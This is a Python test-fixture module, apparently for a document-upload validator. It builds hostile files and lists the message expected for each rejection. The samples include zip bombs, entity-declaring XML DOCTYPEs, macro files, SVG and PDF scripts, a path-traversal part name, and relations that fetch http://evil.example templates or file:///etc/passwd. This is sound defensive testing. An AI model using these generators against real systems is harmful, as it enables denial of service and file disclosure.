"""Files that do harm where they are opened, made for real: what each is, its name, its bytes, the sentence."""

from __future__ import annotations

import struct
import zipfile
from io import BytesIO

from pikepdf import ObjectStreamMode

from tests.factories import pdfs
from tests.factories.pdfs import make_pdf
from tests.factories.word import (
    HEAD,
    PACKAGE,
    document_xml,
    make_docx,
    packed,
    paragraph,
    parts_of,
    relations,
)

MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
TEXT = paragraph("We share when it helps.")


def with_part(name, content):
    return packed({**parts_of(TEXT), name: content})


def lying(content, part, stated):
    """The archive with another size stated for one part, in the directory and before the part itself."""
    data = bytearray(content)
    name = part.encode()
    for sign, size_at, name_at in ((b"PK\x03\x04", 22, 30), (b"PK\x01\x02", 24, 46)):
        at = data.find(sign)
        while at >= 0:
            if data[at + name_at : at + name_at + len(name)] == name:
                struct.pack_into("<L", data, at + size_at, stated)
            at = data.find(sign, at + 4)
    return bytes(data)


def overlapping(copies=200):
    """One packed part, named in the directory again and again: a small file that unpacks to much."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a.bin", bytes(range(256)) * 4000)
        first = archive.infolist()[0]
        for number in range(copies):
            again = zipfile.ZipInfo(f"b{number}.bin")
            again.header_offset, again.compress_type = first.header_offset, first.compress_type
            again.CRC, again.file_size, again.compress_size = first.CRC, first.file_size, first.compress_size
            archive.filelist.append(again)
            archive.NameToInfo[again.filename] = again
    return out.getvalue()


def nested_bomb():
    inner = packed({"zeros.bin": bytes(12_000_000)})
    return with_part("word/embeddings/inner.zip", packed({"again.zip": inner}))


def with_doctype(encoding="utf-8"):
    evil = '<!DOCTYPE w [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
    xml = document_xml(TEXT).replace(HEAD, f'<?xml version="1.0" encoding="{encoding}"?>' + evil)
    return packed({**parts_of(TEXT), "word/document.xml": xml.encode(encoding)})


def with_relation(kind, target, mode="External", part="word/_rels/settings.xml.rels"):
    return packed({**parts_of(TEXT), part: relations([(kind, target, mode)])})


def deep(levels=5000):
    return make_docx("<w:p>" + "<w:r>" * levels + "</w:r>" * levels + "</w:p>")


def encrypted():
    data = bytearray(make_docx(TEXT))
    for sign, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = data.find(sign)
        struct.pack_into("<H", data, place + at, 1)
    return bytes(data)


def workbook(parts):
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    types = (
        f'{HEAD}<Types xmlns="{PACKAGE}/content-types"><Override PartName="/xl/workbook.xml" ContentType="{kind}"/>'
        "</Types>"
    )
    return packed({"[Content_Types].xml": types, "xl/workbook.xml": f"{HEAD}<workbook/>", **parts})


def opendocument(parts):
    return packed(
        {
            "mimetype": "application/vnd.oasis.opendocument.text",
            "content.xml": f'{HEAD}<office:document-content xmlns:office="urn:x"/>',
            **parts,
        }
    )


HOSTILE = {
    "a file with macros, as it is called": ("policy.docm", lambda: make_docx(TEXT, main=MACROS), "has macros in it"),
    "a file with macros under another name": ("policy.docx", lambda: make_docx(TEXT, main=MACROS), "has macros in it"),
    "a project of macros in a plain file": (
        "policy.docx", lambda: with_part("word/vbaProject.bin", b"\xcc\x61" * 40), "has macros in it",
    ),
    "a project of macros under another name": (
        "policy.docx", lambda: with_relation("vbaProject", "data.bin", ""), "has macros in it",
    ),
    "macros of a workbook": (
        "table.xlsx", lambda: workbook({"xl/vbaProject.bin": b"\xcc\x61"}), "has macros in it",
    ),
    "macros of an OpenDocument text": (
        "text.odt", lambda: opendocument({"Basic/Standard/Module1.xml": "<a/>"}), "has macros in it",
    ),
    "a program called a document": ("policy.docx", lambda: b"MZ\x90\x00\x03", "This kind of file is not taken"),
    "a picture called a document": (
        "policy.docx", lambda: b"\x89PNG\r\n\x1a\n\x00\x00", "what is in it is a PNG picture",
    ),
    "a document called a picture": ("plan.png", lambda: make_docx(TEXT), "what is in it is a Word document"),
    "an old Word file": ("policy.doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "in an old Office format"),
    "a drawing with a script": ("plan.svg", lambda: SVG, "an SVG drawing, which can run scripts"),
    "a drawing called text": ("plan.txt", lambda: b"\xef\xbb\xbf\n " + SVG, "an SVG drawing, which can run scripts"),
    "a drawing called a picture": ("plan.png", lambda: SVG, "an SVG drawing, which can run scripts"),
    "a web page": ("page.txt", lambda: b"<!doctype html><p onclick=x()>Hi", "is a web page"),
    "a script in a text": ("notes.txt", lambda: b"Notes\n<SCRIPT>x()</SCRIPT>", "This text has “<SCRIPT” in it"),
    "a bomb": ("policy.docx", lambda: with_part("word/media/a.bin", bytes(12_000_000)), "unpack to far more"),
    "a bomb in a bomb": ("policy.docx", nested_bomb, "Another file is embedded"),
    "a bomb of text": (
        "policy.docx",
        lambda: packed({**parts_of(TEXT), "word/document.xml": document_xml(paragraph("a" * 26_000_000))}),
        "unpack to far more",
    ),
    "a bomb that lies about its size": (
        "policy.docx",
        lambda: lying(with_part("word/media/a.bin", bytes(12_000_000)), "word/media/a.bin", 1000),
        "states false sizes",
    ),
    "a part that is smaller than it says": (
        "policy.docx",
        lambda: lying(with_part("word/media/a.bin", b"abc"), "word/media/a.bin", 4000),
        "states false sizes",
    ),
    "parts that lie over one another": ("policy.docx", overlapping, "unpack to far more"),
    "a file of very many parts": (
        "policy.docx",
        lambda: packed({**parts_of(TEXT), **{f"a/{n}.xml": "<a/>" for n in range(1200)}}),
        "too many parts",
    ),
    "a template from elsewhere": (
        "policy.docx", lambda: with_relation("attachedTemplate", "http://evil.example/x.dotm"), "fetches something",
    ),
    "a picture from elsewhere": (
        "policy.docx",
        lambda: with_relation("image", "file:///etc/passwd", part="word/_rels/extra.xml.rels"),
        "fetches something",
    ),
    "a frame from elsewhere": (
        "policy.docx", lambda: with_relation("frame", "http://evil.example/"), "fetches something",
    ),
    "a document type with entities": ("policy.docx", with_doctype, "declares a document type or entities"),
    "a document type in wide letters": (
        "policy.docx", lambda: with_doctype("utf-16"), "declares a document type or entities",
    ),
    "an object inside": (
        "policy.docx",
        lambda: with_part("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"),
        "Another file is embedded",
    ),
    "elements without end": ("policy.docx", deep, "nested too deeply"),
    "a password": ("policy.docx", encrypted, "protected with a password"),
    "half a file": ("policy.docx", lambda: make_docx(TEXT)[:700], "is damaged"),
    "a name that climbs out": (
        "policy.docx", lambda: with_part("../../etc/passwd", b"x"), "a name that is not allowed",
    ),
    "an archive of something else": ("policy.docx", lambda: packed({"a.txt": "x"}), "no Word, Excel"),
    "a file that is too large": ("policy.docx", lambda: b"PK" + bytes(10 * 1024 * 1024), "larger than 10 MB"),
    "a PDF with a script": ("plan.pdf", lambda: make_pdf(change=pdfs.with_script_on_opening), "has JavaScript"),
    "a PDF with a script by name": ("plan.pdf", lambda: make_pdf(change=pdfs.with_script_by_name), "has JavaScript"),
    "a PDF with packed scripts": (
        "plan.pdf",
        lambda: make_pdf(change=pdfs.with_script_on_opening, object_stream_mode=ObjectStreamMode.generate),
        "has JavaScript",
    ),
    "a PDF with an active form": ("plan.pdf", lambda: make_pdf(change=pdfs.with_active_form), "an active form"),
    "a PDF that starts a program": ("plan.pdf", lambda: make_pdf(change=pdfs.with_program), "start a program"),
    "a PDF that sends a form": ("plan.pdf", lambda: make_pdf(change=pdfs.with_form_that_sends), "sends away"),
    "a PDF with a film": ("plan.pdf", lambda: make_pdf(change=pdfs.with_film), "sound or film"),
    "a PDF with a file inside": ("plan.pdf", lambda: make_pdf(change=pdfs.with_file_inside), "carries another file"),
    "a PDF with a password": ("plan.pdf", pdfs.locked, "protected with a password"),
    "a PDF that forbids": ("plan.pdf", pdfs.restricted, "protected with a password"),
    "a PDF nested without end": ("plan.pdf", lambda: make_pdf(change=pdfs.nested), "nested too deeply"),
    "half a PDF": ("plan.pdf", lambda: make_pdf()[:300], "This PDF is damaged"),
    "no more than a mark of PDF": ("plan.pdf", lambda: b"%PDF-1.7\n", "This PDF is damaged"),
    "an empty file": ("policy.docx", lambda: b"", "is empty"),
}  # fmt: skip
